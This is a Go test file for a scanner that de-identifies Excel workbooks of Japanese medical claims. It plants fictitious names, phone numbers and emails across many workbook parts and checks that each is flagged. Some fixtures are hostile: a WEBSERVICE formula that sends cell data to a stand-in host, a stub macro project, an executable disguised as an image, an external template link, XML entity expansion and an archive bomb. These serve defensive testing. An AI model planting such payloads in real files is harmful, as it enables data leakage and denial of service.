package excel_test

import (
	"archive/zip"
	"bytes"
	"crypto/rand"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"teikyo/deid/excel"
	"teikyo/deid/profile"
	"teikyo/deid/scan"
	"teikyo/deid/source"
	"teikyo/deid/spill"
)

func look(t testing.TB, data []byte, limits source.Limits) scan.Result {
	t.Helper()
	p, err := profile.Shipped(profile.JPPolicy)
	if err != nil {
		t.Fatal(err)
	}
	folder := spill.Folder{Dir: t.TempDir(), Rand: rand.Reader}
	in, err := source.Of("a.xlsx", bytes.NewReader(data), func() (source.File, error) { return folder.Create() }, limits)
	if err != nil {
		t.Fatal(err)
	}
	c := scan.New(p, excel.Key)
	if err := (excel.Format{}).Check(t.Context(), in, c); err != nil {
		t.Fatal(err)
	}
	return c.Finish()
}

func blocks(r scan.Result) []string {
	var out []string
	for _, f := range r.Findings {
		if f.Block {
			out = append(out, f.Rule)
		}
	}
	return out
}

func text(r scan.Result) string {
	var b strings.Builder
	for _, f := range r.Findings {
		fmt.Fprintf(&b, "%v %s [%s] %s\n", f.Block, f.Rule, f.Location, f.Msg)
	}
	return b.String()
}

// book is a clean workbook of claims.
func book(t testing.TB) *excelize.File {
	t.Helper()
	f := excelize.NewFile()
	t.Cleanup(func() { f.Close() })
	must(t, f.SetSheetRow("Sheet1", "A1", &[]any{"保険者番号", "生年月", "性別", "診療開始日", "傷病名", "点数"}))
	style, err := f.NewStyle(&excelize.Style{NumFmt: 14})
	must(t, err)
	for i := range 40 {
		row := fmt.Sprintf("A%d", i+2)
		must(t, f.SetSheetRow("Sheet1", row, &[]any{"06132013", fmt.Sprintf("19%02d-%02d", 30+i, i%12+1), i%2 + 1,
			time.Date(2023, 4, 1+i%28, 0, 0, 0, 0, time.UTC), "高血圧症", 120 + i*3}))
		must(t, f.SetCellStyle("Sheet1", fmt.Sprintf("D%d", i+2), fmt.Sprintf("D%d", i+2), style))
	}
	return f
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func bytesOf(t testing.TB, f *excelize.File) []byte {
	t.Helper()
	b, err := f.WriteToBuffer()
	must(t, err)
	return b.Bytes()
}

func TestCleanWorkbook(t *testing.T) {
	t.Parallel()
	data := bytesOf(t, book(t))
	if !(excel.Format{}).Detect(data) {
		t.Error("not detected")
	}
	r := look(t, data, source.Limits{})
	if len(blocks(r)) > 0 || r.Shape.Rows != 40 || !r.Shape.Header || len(r.Columns) < 6 {
		t.Errorf("%+v\n%s", r.Shape, text(r))
	}
	if !slices.ContainsFunc(r.NotLookedAt, func(s string) bool { return strings.Contains(s, "pictures") }) {
		t.Errorf("not looked at: %v", r.NotLookedAt)
	}
}

// column adds a column G with the values.
func column(t testing.TB, f *excelize.File, sheet, name string, value func(i int) any) {
	must(t, f.SetCellValue(sheet, "G1", name))
	for i := range 40 {
		must(t, f.SetCellValue(sheet, fmt.Sprintf("G%d", i+2), value(i)))
	}
}

// TestPlanted: each identifier is found, wherever in the workbook it is.
func TestPlanted(t *testing.T) {
	t.Parallel()
	phone := func(i int) any { return fmt.Sprintf("090-%04d-%04d", 1000+i*37, 2000+i*91) }
	sheet := func(f *excelize.File, visible string) {
		_, err := f.NewSheet("裏")
		must(t, err)
		must(t, f.SetSheetRow("裏", "A1", &[]any{"患者氏名", "コード"}))
		for i := range 12 {
			must(t, f.SetSheetRow("裏", fmt.Sprintf("A%d", i+2), &[]any{"山田太郎", i}))
		}
		must(t, f.SetSheetVisible("裏", false, visible == "veryHidden"))
	}
	for name, c := range map[string]struct {
		plant func(f *excelize.File)
		rule  string
	}{
		"name column":   {func(f *excelize.File) { column(t, f, "Sheet1", "氏名", func(int) any { return "山田太郎" }) }, "column-person-name"},
		"phones":        {func(f *excelize.File) { column(t, f, "Sheet1", "列", phone) }, "phone"},
		"birth as date": {func(f *excelize.File) { column(t, f, "Sheet1", "生年月日", birth) }, "birth-date"},
		"birth as number": {func(f *excelize.File) {
			column(t, f, "Sheet1", "生年月日", func(i int) any { return 20_000 + i*37 })
		}, "birth-date"},
		"my number": {func(f *excelize.File) {
			column(t, f, "Sheet1", "個人番号", func(i int) any { return 123_456_789_018 })
		}, "column-national-id"},
		"hidden sheet":      {func(f *excelize.File) { sheet(f, "hidden") }, "column-person-name"},
		"very hidden sheet": {func(f *excelize.File) { sheet(f, "veryHidden") }, "column-person-name"},
		"hidden column": {func(f *excelize.File) {
			column(t, f, "Sheet1", "氏名", func(int) any { return "山田太郎" })
			must(t, f.SetColVisible("Sheet1", "G", false))
		}, "column-person-name"},
		"comment": {func(f *excelize.File) {
			must(t, f.AddComment("Sheet1", excelize.Comment{Cell: "A3", Text: "問い合わせ 090-1234-5678"}))
		}, "phone"},
		"comment's author": {func(f *excelize.File) {
			must(t, f.AddComment("Sheet1", excelize.Comment{Cell: "A3", Author: "佐藤花子", Text: "確認"}))
		}, "column-person-name"},
		"author":      {func(f *excelize.File) { must(t, f.SetDocProps(&excelize.DocProperties{Creator: "佐藤花子"})) }, "column-person-name"},
		"last editor": {func(f *excelize.File) { must(t, f.SetDocProps(&excelize.DocProperties{LastModifiedBy: "Hanako Sato"})) }, "column-person-name"},
		"description": {func(f *excelize.File) {
			must(t, f.SetDocProps(&excelize.DocProperties{Description: "contact taro@hospital.jp"}))
		}, "email"},
		"header": {func(f *excelize.File) {
			must(t, f.SetHeaderFooter("Sheet1", &excelize.HeaderFooterOptions{OddHeader: "&L 03-1234-5678"}))
		}, "phone"},
		"defined name": {func(f *excelize.File) {
			must(t, f.SetDefinedName(&excelize.DefinedName{Name: "x", RefersTo: `"taro@hospital.jp"`}))
		}, "email"},
		"formula": {func(f *excelize.File) { must(t, f.SetCellFormula("Sheet1", "H2", `"taro@hospital.jp"`)) }, "email"},
		"link": {func(f *excelize.File) {
			must(t, f.SetCellHyperLink("Sheet1", "A2", "mailto:taro@hospital.jp", "External"))
		}, "email"},
		"text box": {func(f *excelize.File) { must(t, f.AddShape("Sheet1", shape("電話 03-1234-5678"))) }, "phone"},
		"list of values": {func(f *excelize.File) {
			v := excelize.NewDataValidation(true)
			v.Sqref = "A1:A9"
			v.SetInput("taro@hospital.jp", "x")
			must(t, f.AddDataValidation("Sheet1", v))
		}, "email"},
		"sheet's name": {func(f *excelize.File) { must(t, f.SetSheetName("Sheet1", "tel 090-1234-5678")) }, "phone"},
		"a form": {func(f *excelize.File) {
			_, err := f.NewSheet("票")
			must(t, err)
			must(t, f.SetSheetRow("票", "B2", &[]any{"氏名", "山田太郎"}))
		}, "column-person-name"},
		"web formula": {func(f *excelize.File) { must(t, f.SetCellFormula("Sheet1", "H2", `WEBSERVICE("http://x/"&A2)`)) }, "executable-content"},
		"other book":  {func(f *excelize.File) { must(t, f.SetCellFormula("Sheet1", "H2", `[1]Sheet1!A1`)) }, "external-link"},
		"macros": {func(f *excelize.File) {
			must(t, f.AddVBAProject([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"+strings.Repeat("\x00", 600))))
		}, "executable-content"},
	} {
		t.Run(name, func(t *testing.T) {
			f := book(t)
			c.plant(f)
			r := look(t, bytesOf(t, f), source.Limits{})
			if !slices.Contains(blocks(r), c.rule) {
				t.Errorf("want %q\n%s", c.rule, text(r))
			}
			if strings.Contains(text(r), "山田") || strings.Contains(text(r), "5678") || strings.Contains(text(r), "taro@") {
				t.Errorf("an identifier is in the findings:\n%s", text(r))
			}
		})
	}
}

func birth(i int) any { return time.Date(1950+i, 3, 2+i%20, 0, 0, 0, 0, time.UTC) }

func shape(words string) *excelize.Shape {
	return &excelize.Shape{Cell: "H5", Type: "rect", Paragraph: []excelize.RichTextRun{{Text: words}}}
}

// with is the archive with one part added or replaced.
func with(t testing.TB, data []byte, name, body string) []byte {
	t.Helper()
	r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	must(t, err)
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, f := range r.File {
		if f.Name == name {
			continue
		}
		must(t, w.Copy(f))
	}
	e, err := w.Create(name)
	must(t, err)
	_, err = io.WriteString(e, body)
	must(t, err)
	must(t, w.Close())
	return out.Bytes()
}

func TestParts(t *testing.T) {
	t.Parallel()
	clean := bytesOf(t, book(t))
	deep := strings.Repeat("<a>", 100_000)
	for name, c := range map[string]struct{ part, body, rule string }{
		"old macros":       {"xl/macrosheets/sheet1.xml", "<x/>", "executable-content"},
		"renamed macros":   {"xl/theme/theme9.xml", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_\x00V\x00B\x00A\x00_\x00P\x00R\x00O\x00J\x00E\x00C\x00T\x00", "executable-content"},
		"a table beside":   {"data.csv", "a,b\n1,2\n", "unknown-part"},
		"a false picture":  {"xl/media/image9.png", "a,b\n1,2\n", "unknown-part"},
		"program":          {"xl/media/image1.png", "\x7fELF\x02\x01\x01", "executable-content"},
		"embedded":         {"xl/embeddings/oleObject1.bin", "x", "embedded-object"},
		"outside":          {"xl/externalLinks/externalLink1.xml", "<x/>", "external-link"},
		"template":         {"xl/_rels/x.xml.rels", `<Relationships><Relationship Id="1" Type="t/attachedTemplate" Target="http://x/" TargetMode="External"/></Relationships>`, "external-link"},
		"history":          {"xl/revisions/revisionLog1.xml", "<x/>", "revision-history"},
		"unlisted sheet":   {"xl/worksheets/sheet9.xml", `<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>the address is taro@hospital.jp</t></is></c></row></sheetData></worksheet>`, "email"},
		"threaded comment": {"xl/threadedComments/threadedComment1.xml", `<ThreadedComments><threadedComment><text>tel 090-1234-5678</text></threadedComment></ThreadedComments>`, "phone"},
		"people":           {"xl/persons/person.xml", `<personList><person displayName="佐藤花子" userId="x"/></personList>`, "column-person-name"},
		"pivot copy": {"xl/pivotCache/pivotCacheDefinition1.xml",
			`<pivotCacheDefinition refreshedBy="R"><cacheFields><cacheField name="氏名"><sharedItems><s v="山田太郎"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>`, "column-person-name"},
		"who refreshed":   {"xl/pivotCache/pivotCacheDefinition1.xml", `<pivotCacheDefinition refreshedBy="佐藤花子"/>`, "column-person-name"},
		"custom property": {"docProps/custom.xml", `<Properties><property name="patient id"><vt:lpwstr>0012345</vt:lpwstr></property></Properties>`, "column-patient-id"},
		"furigana":        {"xl/sharedStrings.xml", `<sst><si><t>x</t><rPh><t>090-1234-5678</t></rPh></si></sst>`, "phone"},
		"broken sheet":    {"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row r="1"><c`, "damaged"},
		"deep":            {"xl/worksheets/sheet1.xml", deep, "damaged"},
		"no such text":    {"xl/sharedStrings.xml", `<sst/>`, "damaged"},
		"entities":        {"xl/worksheets/sheet1.xml", `<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><worksheet><sheetData><row><c t="str"><v>&c;</v></c></row></sheetData></worksheet>`, "damaged"},
		"long text":       {"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row><c t="str"><v>` + strings.Repeat("x", 3<<20) + `</v></c></row></sheetData></worksheet>`, "damaged"},
		"bomb":            {"xl/worksheets/sheet1.xml", `<worksheet>` + strings.Repeat(" ", 64<<20) + `</worksheet>`, "archive-bomb"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := look(t, with(t, clean, c.part, c.body), source.Limits{})
			if !slices.Contains(blocks(r), c.rule) {
				t.Errorf("want %q\n%s", c.rule, text(r))
			}
		})
	}
}

func TestBroken(t *testing.T) {
	t.Parallel()
	clean := bytesOf(t, book(t))
	for _, n := range []int{50, 500, len(clean) / 2, len(clean) - 30, len(clean) - 1} {
		if r := look(t, clean[:n], source.Limits{}); !slices.Contains(blocks(r), "damaged") {
			t.Errorf("cut at %d:\n%s", n, text(r))
		}
	}
}

// TestSameCellsAsExcelize: a second reader sees the same values.
func TestSameCellsAsExcelize(t *testing.T) {
	t.Parallel()
	f := book(t)
	must(t, f.SetCellValue("Sheet1", "H1", "x"))
	must(t, f.SetCellRichText("Sheet1", "H2", []excelize.RichTextRun{{Text: "一つ"}, {Text: "二つ"}}))
	must(t, f.SetCellValue("Sheet1", "H3", 1.5e15))
	must(t, f.SetCellValue("Sheet1", "H4", true))
	rows, err := f.GetRows("Sheet1", excelize.Options{RawCellValue: true})
	must(t, err)
	filled := map[string]int64{}
	for _, r := range rows[1:] {
		for i, v := range r {
			if v != "" && v != "TRUE" && v != "1" || v == "1" && i == 2 {
				filled[rows[0][i]]++
			}
		}
	}
	for _, c := range look(t, bytesOf(t, f), source.Limits{}).Columns {
		if want, ok := filled[c.Name]; ok && c.NonEmpty != want {
			t.Errorf("column %q: %d cells, want %d", c.Name, c.NonEmpty, want)
		}
		delete(filled, c.Name)
	}
	if len(filled) > 0 {
		t.Errorf("columns not seen: %v", filled)
	}
}

func FuzzSheet(f *testing.F) {
	clean := bytesOf(f, book(f))
	f.Add(`<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" s="1"><v>45000.5</v></c></row></sheetData></worksheet>`)
	f.Add(`<worksheet><sheetData><row><c t="inlineStr"><is><r><t>a</t></r><rPh><t>b</t></rPh></is></c><c><f>A1</f><v>1E+308</v></c></row></sheetData>`)
	f.Fuzz(func(t *testing.T, sheet string) {
		const planted = `<row r="9"><c t="inlineStr"><is><t>the address is taro@hospital.jp</t></is></c></row>`
		whole := `<worksheet><sheetData>` + planted + `</sheetData></worksheet>` + sheet
		r := look(t, with(t, clean, "xl/worksheets/sheet1.xml", whole), source.Limits{})
		if !slices.Contains(blocks(r), "email") && !slices.Contains(blocks(r), "damaged") && !slices.Contains(blocks(r), "archive-bomb") {
			t.Errorf("the planted address was not found:\n%s", text(r))
		}
	})
}
